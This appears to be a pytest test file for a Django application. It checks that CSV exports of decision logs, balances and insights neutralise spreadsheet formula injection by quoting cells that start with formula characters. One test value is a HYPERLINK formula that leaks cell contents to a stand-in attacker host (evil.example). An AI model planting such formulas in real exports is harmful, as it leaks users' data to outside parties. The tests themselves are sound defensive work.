"""No text a participant types becomes a formula in a spreadsheet that opens a CSV download.

A cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is run by Excel and
LibreOffice; each CSV export must write such a text with a single quote in front (OWASP), so
the spreadsheet shows it as text. Numbers stay numbers.
"""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from participation.spreadsheets import spreadsheet_text
from stakes import services as stakes
from wiki.models import Document

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'


def rows_of(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def cells_of(rows) -> list[str]:
    return [cell for row in rows for cell in row]


def assert_no_formula(rows) -> None:
    starts = ("=", "+", "@", "\t", "\r")
    assert [cell for cell in cells_of(rows) if cell.startswith(starts)] == []


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+31 6 1234", "'+31 6 1234"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Visie 2030", "Visie 2030"),
        ("a = b", "a = b"),
        ("-12.50", "-12.50"),
        (-3, -3),
        ("", ""),
    ],
)
def test_text_that_starts_a_formula_is_shown_as_text(typed, written):
    assert spreadsheet_text(typed) == written


def test_decision_log_export_shows_typed_formulas_as_text(client, world, make_document):
    document = make_document(world, title="Onderwijs plannen", kind=Document.Kind.MAIN_PROCESS)
    proposal = stakes.proposal_create(
        programme=world.programme,
        by=world.lead,
        title=HYPERLINK,
        text="We kiezen één roosterpakket.",
        documents=[document],
        deadline=timezone.now() + timedelta(days=7),
    )
    stakes.proposal_decide(proposal=proposal, by=world.lead, outcome="@SUM(A1:A9)")
    client.force_login(world.observer)

    rows = rows_of(client.get(f"/p/{world.programme.slug}/decisions/export.csv"))

    [row] = rows[1:]
    assert row[1] == "'" + HYPERLINK
    assert row[5] == "'@SUM(A1:A9)"
    assert_no_formula(rows)


def test_balance_export_shows_typed_formulas_as_text(client, world, make_document):
    world.contributing_org.name = "+Gemeente"
    world.contributing_org.save()
    document = make_document(world, title=HYPERLINK, kind=Document.Kind.MAIN_PROCESS)
    stakes.stake_record(
        document=document,
        kind="effort",
        direction="cost",
        size=3,
        amount=None,
        explanation="",
        author=world.contributor,
    )

    rows = rows_of(client.get(reverse("stakes:balance_csv", args=[world.programme.slug])))

    cells = cells_of(rows)
    assert "'+Gemeente" in cells and "'" + HYPERLINK in cells
    assert "-3" in cells  # a number stays a number
    assert_no_formula(rows)


def test_insight_export_shows_typed_formulas_as_text(client, world, make_document):
    world.contributing_org.name = HYPERLINK
    world.contributing_org.save()
    make_document(world, title="Visie")  # by the lead, of the contributing organisation

    url = reverse("workspace:insight_csv", args=[world.programme.slug, "contributions"])
    rows = rows_of(client.get(url))

    assert "'" + HYPERLINK in rows[0]
    assert_no_formula(rows)
